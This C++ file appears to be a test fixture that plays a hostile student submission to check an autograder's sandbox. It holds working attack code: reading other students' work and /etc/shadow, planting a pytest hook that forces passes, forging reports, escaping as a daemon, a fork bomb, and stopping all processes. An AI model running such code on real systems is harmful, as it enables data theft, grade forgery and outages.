// A malicious lab 01 "server" for the grader's tests: every attack a student's program
// could try against the grader, run once per sandbox, then a daemon that keeps trying.
// It implements nothing of the lab. The test fills in the @...@ names (host paths it
// must not reach, a local HTTP port) and checks afterwards that no attack worked.
// Each attempt ends in a line "attack NAME: blocked" or "attack NAME: SUCCEEDED".
#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

namespace {

const char* const kSubmissions = "@SUBMISSIONS@";
const char* const kInstructor = "@INSTRUCTOR@";
const char* const kOut = "@OUT@";
const char* const kMark = "@MARK@";
const int kHttpPort = @HTTP_PORT@;

void say(const char* name, bool worked) {
    std::fprintf(stderr, "attack %s: %s\n", name, worked ? "SUCCEEDED" : "blocked");
}

std::string slurp(const std::string& path) {
    std::string text;
    const int fd = ::open(path.c_str(), O_RDONLY);
    if (fd < 0) return text;
    char buf[4096];
    ssize_t n;
    while ((n = ::read(fd, buf, sizeof buf)) > 0) text.append(buf, static_cast<size_t>(n));
    ::close(fd);
    return text;
}

bool append(const std::string& path, const std::string& text) {
    const int fd = ::open(path.c_str(), O_WRONLY | O_APPEND | O_CREAT, 0644);
    if (fd < 0) return false;
    const bool ok = ::write(fd, text.data(), text.size()) == static_cast<ssize_t>(text.size());
    ::close(fd);
    return ok;
}

std::vector<std::string> entries(const std::string& dir) {
    std::vector<std::string> names;
    if (DIR* d = ::opendir(dir.c_str())) {
        while (dirent* e = ::readdir(d)) {
            if (e->d_name[0] != '.') names.emplace_back(e->d_name);
        }
        ::closedir(d);
    }
    return names;
}

const char* const kForged =
    "{\"collected\": [{\"nodeid\": \"tests/e2e/test_01_udp_echo.py::test_forged\", "
    "\"markers\": [], \"doc\": \"\"}]}\n"
    "{\"nodeid\": \"tests/e2e/test_01_udp_echo.py::test_forged\", \"outcome\": \"passed\", "
    "\"seconds\": 0, \"message\": \"\"}\n";

// Writes forged report lines into every descriptor of every process it can see.
bool forge_reports() {
    bool any = false;
    for (const auto& pid : entries("/proc")) {
        if (pid.find_first_not_of("0123456789") != std::string::npos) continue;
        for (const auto& fd : entries("/proc/" + pid + "/fd")) {
            const std::string path = "/proc/" + pid + "/fd/" + fd;
            const int w = ::open(path.c_str(), O_WRONLY | O_NONBLOCK);
            if (w < 0) continue;
            struct stat st {};
            if (::fstat(w, &st) == 0 && S_ISFIFO(st.st_mode) && pid != std::to_string(::getpid())) {
                any = ::write(w, kForged, std::strlen(kForged)) > 0 || any;
            }
            ::close(w);
        }
    }
    for (int fd = 3; fd < 64; ++fd) {  // and into anything it inherited
        struct stat st {};
        if (::fstat(fd, &st) == 0 && S_ISFIFO(st.st_mode)) {
            any = ::write(fd, kForged, std::strlen(kForged)) > 0 || any;
        }
    }
    return any;
}

void attacks() {
    const std::string mark = kMark;
    const std::string inst = kInstructor;
    // 1. Read other students' work, the reference solution, the machine's secrets.
    bool read_any = false;
    for (const auto& student : entries(kSubmissions)) {
        const std::string text = slurp(std::string(kSubmissions) + "/" + student +
                                       "/labs/03-tcp-echo/server.cpp");
        if (!text.empty()) {
            read_any = true;
            std::fprintf(stderr, "stolen %s: %.200s\n", student.c_str(), text.c_str());
        }
    }
    say("read-other-submissions", read_any);
    say("read-reference-solution", !slurp(inst + "/labs/03-tcp-echo/server.cpp").empty());
    say("read-etc-shadow", !slurp("/etc/shadow").empty());
    say("read-host-root", !entries("/root").empty() || !entries("/home").empty());
    // 2. Change the grader: its conftest, its weights, its plugin, its reports.
    const char* hook =
        "\nimport pytest\n@pytest.hookimpl(hookwrapper=True)\n"
        "def pytest_runtest_makereport(item, call):\n"
        "    o = yield\n    o.get_result().outcome = 'passed'\n";
    bool changed = false;
    for (const std::string& root : {std::string("/grader"), inst}) {
        changed = append(root + "/tests/e2e/conftest.py", hook) || changed;
        changed = append(root + "/tests/weights.toml", "\n[lab.01]\npoints = 1000\n") || changed;
        changed = append(root + "/scripts/grade_report.py", "\nraise SystemExit(0)\n") || changed;
    }
    say("edit-grader", changed);
    bool wrote = false;
    for (const std::string& dir : {std::string(kOut), std::string(kSubmissions), inst, mark,
                                  std::string("/work/build"), std::string("/work/src"),
                                  std::string("/work/bin")}) {
        wrote = append(dir + "/pwned", "pwned\n") || wrote;
    }
    wrote = append(std::string(kOut) + "/class.csv", "evil,100,100,200\n") || wrote;
    say("write-outside", wrote);
    say("forge-report", forge_reports());
    // 3. The network: a local HTTP service, and the outside world.
    bool reached = false;
    for (const char* host : {"127.0.0.1", "10.0.2.2", "1.1.1.1"}) {
        const int s = ::socket(AF_INET, SOCK_STREAM, 0);
        sockaddr_in a{};
        a.sin_family = AF_INET;
        a.sin_port = htons(static_cast<uint16_t>(std::strcmp(host, "127.0.0.1") == 0 ? kHttpPort : 80));
        ::inet_pton(AF_INET, host, &a.sin_addr);
        if (::connect(s, reinterpret_cast<sockaddr*>(&a), sizeof a) == 0) {
            const char* get = "GET /secret HTTP/1.0\r\n\r\n";
            reached = ::write(s, get, std::strlen(get)) > 0 || reached;
        }
        ::close(s);
    }
    say("network", reached);
    // 4. Privileges: become real root, or another user.
    say("setuid", ::setuid(12345) == 0 || ::setgid(12345) == 0);
}

// A daemon out of the harness's reach: its own session, an empty environment, port 9903
// held, and every process it can see stopped, again and again.
void run_daemon() {
    if (::fork() != 0) return;
    ::setsid();
    if (::fork() != 0) std::_Exit(0);
    ::clearenv();
    const int null = ::open("/dev/null", O_RDWR);  // lets the server's pipes end
    for (int fd = 0; fd < 3; ++fd) ::dup2(null, fd);
    const int s = ::socket(AF_INET, SOCK_STREAM, 0);
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_port = htons(9903);
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    const int one = 1;
    ::setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    (void)::bind(s, reinterpret_cast<sockaddr*>(&a), sizeof a);
    (void)::listen(s, 5);
    ::sleep(3);  // lets the grader record the first test, with the lines above
    // Resources: a memory hog and a fork bomb, each in a child of its own.
    if (::fork() == 0) {
        std::vector<char*> blocks;
        for (int i = 0; i < 64; ++i) {  // up to 4 GiB, touched
            void* p = ::mmap(nullptr, 64 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
            if (p == MAP_FAILED) break;
            std::memset(p, 1, 64 << 20);
            blocks.push_back(static_cast<char*>(p));
        }
        std::_Exit(0);
    }
    if (::fork() == 0) {
        int made = 0;
        while (made < 100000 && ::fork() >= 0) ++made;  // children fall through too
        ::pause();
        std::_Exit(0);
    }
    for (int i = 0; i < 6000; ++i) {  // ten minutes
        ::kill(-1, SIGSTOP);
        forge_reports();
        append(std::string(kOut) + "/pwned-daemon", "still here\n");
        ::usleep(100000);
    }
    std::_Exit(0);
}

}  // namespace

int main() {
    // Once per sandbox: the first start leaves a mark in the sandbox's /tmp.
    if (::mkdir("/tmp/.attacked", 0700) == 0 || errno != EEXIST) {
        attacks();
        run_daemon();
    }
    std::fprintf(stderr, "server: not implemented\n");
    return 1;
}
